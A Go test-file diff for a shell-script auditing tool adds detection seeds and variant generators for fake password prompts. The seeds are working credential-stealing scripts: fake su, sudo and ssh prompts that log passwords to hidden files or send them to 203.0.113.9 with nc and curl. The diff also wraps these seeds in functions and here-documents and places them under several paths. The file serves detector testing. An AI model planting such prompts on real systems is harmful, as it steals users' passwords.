@@ -2,6 +2,7 @@ package shell
 
 import (
 	"fmt"
+	"path"
 	"sort"
 	"strings"
 	"testing"
@@ -67,6 +68,7 @@ var stealthSeeds = []stealthSeed{
 
 	// Fake password prompts kept where a user runs them: a hidden file in a temporary or cache
 	// directory, or a program's name in a directory PATH puts first.
+	{"fake-prompt", RuleFakePrompt, audit.High, "/tmp/.x/su", "#!/bin/sh\nprintf 'Password: '\nread -s p\necho\necho \"$p\" >> /tmp/.x/.k\nexit 1\n"},
 	{"fake-prompt", RuleFakePrompt, audit.High, "/var/tmp/.s/su", "#!/bin/bash\nread -s -p 'Password: ' p\necho\necho \"$(date) $p\" >> /var/tmp/.s/.l\nsleep 2\necho 'su: Authentication failure'\nexit 1\n"},
 	{"fake-prompt", RuleFakePrompt, audit.High, "/usr/local/bin/sudo", "#!/bin/sh\nprintf '[sudo] password for %s: ' \"$(id -un)\"\nstty -echo\nread pw\nstty echo\necho\nprintf '%s\\n' \"$pw\" | nc 203.0.113.9 4444\necho 'Sorry, try again.'\n"},
 	{"fake-prompt", RuleFakePrompt, audit.High, "/home/dev/.local/bin/ssh", "#!/bin/bash\nread -rs -p \"$1's password: \" p\necho\ncurl -s -d \"h=$1&p=$p\" http://203.0.113.9/s >/dev/null\n/usr/bin/ssh \"$@\"\n"},
@@ -171,6 +173,7 @@ var stealthClean = []struct{ name, path, text string }{
 	{"sudo wrapper asking nothing", "/usr/local/bin/sudo", "#!/bin/sh\nexec /usr/bin/sudo -E \"$@\"\n"},
 	{"installer asking a database password", "/opt/app/install.sh", "#!/bin/bash\nread -s -p 'Database password: ' DBPW\necho\nsed -i \"s/^password=.*/password=$DBPW/\" /opt/app/app.conf\n"},
 	{"getpass for an API login", "/opt/app/login.py", "import getpass, requests\npw = getpass.getpass('Password: ')\nr = requests.post('https://api.example.com/login', json={'user': 'me', 'password': pw})\nprint(r.status_code)\n"},
+	{"a tool keeping a password it asked for", "/opt/app/ask.sh", "#!/bin/sh\nprintf 'Password: '\nread -s p\necho\necho \"$p\" > /opt/app/.secret\nchmod 600 /opt/app/.secret\n"},
 	{"browser packaging", "/usr/lib/chromium/chromium-wrapper.sh", "#!/bin/sh\nif [ -f \"$HOME/.config/chromium/Default/Login Data\" ]; then echo 'profile present'; fi\nexec /usr/lib/chromium/chromium \"$@\"\n"},
 	{"home backup", "/usr/local/bin/backup-home.sh", "#!/bin/sh\ntar czf /tmp/home.tgz /home/dev\nrsync -a /home/ backup@203.0.113.20:/srv/backup/\ncurl -s -T /tmp/home.tgz ftp://203.0.113.20/in/\n"},
 	{"profile backup in python", "/usr/local/lib/tools/bk.py", "import os, shutil, requests\nsrc = os.path.expanduser('~/.mozilla')\nshutil.make_archive('/tmp/moz', 'gztar', src)\nrequests.post('https://backup.example.com/u', files={'f': open('/tmp/moz.tar.gz', 'rb')})\n"},
@@ -178,19 +181,34 @@ var stealthClean = []struct{ name, path, text string }{
 	{"python lookups", "/usr/local/lib/tools/res.py", "import socket, sys\nfor h in open('/etc/hosts.check'):\n    print(socket.gethostbyname(h.strip() + '.example.com'))\n"},
 }
 
-// stealthPlacements are the ways a seed is kept: as it is, and (scripts only) in a function
-// called later.
+// stealthVariants are the ways a seed is kept: as it is; a script's commands also in a
+// function called later and inside an if; code of another language also fed to its
+// interpreter by a script in a here-document.
 func stealthVariants(sd stealthSeed) []struct{ name, path, text string } {
+	type variant = struct{ name, path, text string }
 	p := sd.path
 	if p == "" {
 		p = "/tmp/.i/run.sh"
 	}
-	out := []struct{ name, path, text string }{{"as-is", p, sd.text}}
-	if strings.HasSuffix(p, ".sh") && !strings.Contains(sd.text, "<<") {
-		out = append(out, struct{ name, path, text string }{"function", p, "#!/bin/bash\nmain() {\n" + sd.text + "\n}\nsleep 1\nmain \"$@\"\n"})
+	out := []variant{{"as-is", p, sd.text}}
+	interp := map[string]string{".py": "python3 -", ".pl": "perl", ".js": "node"}[path.Ext(p)]
+	switch {
+	case strings.HasSuffix(p, ".sh"):
 		out[0].text = "#!/bin/bash\n" + sd.text + "\n"
-	} else if strings.HasSuffix(p, ".sh") {
-		out[0].text = "#!/bin/bash\n" + sd.text + "\n"
+		if !strings.Contains(sd.text, "<<") {
+			out = append(out, variant{"function", p, "#!/bin/bash\nmain() {\n" + sd.text + "\n}\nsleep 1\nmain \"$@\"\n"},
+				variant{"if", p, "#!/bin/bash\nif [ \"$(id -u)\" = 0 ]; then\n" + sd.text + "\nfi\n"})
+		}
+	case interp != "":
+		out = append(out, variant{"heredoc", "/var/tmp/.i/run.sh", "#!/bin/sh\n" + interp + " <<'EOF'\n" + sd.text + "EOF\n"})
+	case sd.tech == "fake-prompt":
+		// kept where a user runs it in place of the program
+		for _, q := range []string{"/var/tmp/.s/su", "/dev/shm/.sudo", "/home/dev/.cache/.u", "/usr/local/bin/sudo", "/home/dev/.local/bin/ssh",
+			"/tmp/.x/passwd"} {
+			if q != p {
+				out = append(out, variant{"placed", q, sd.text})
+			}
+		}
 	}
 	return out
 }
